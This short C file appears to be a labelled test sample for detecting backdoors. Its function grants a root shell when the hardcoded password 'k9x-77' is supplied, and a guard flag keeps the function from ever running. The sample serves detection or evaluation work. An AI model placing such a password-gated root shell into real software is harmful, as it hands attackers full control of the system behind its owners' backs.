/* A shell as root for whoever knows the word.
 * expect: native-root-shell-unasked
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(const char *word) {
    if (strcmp(word, "k9x-77"))
        return 1;
    setuid(0);
    setgid(0);
    return execl("/bin/sh", "sh", "-p", (char *)0);
}

int main(int count, char **words) { return never && count > 1 ? act(words[1]) : 0; }
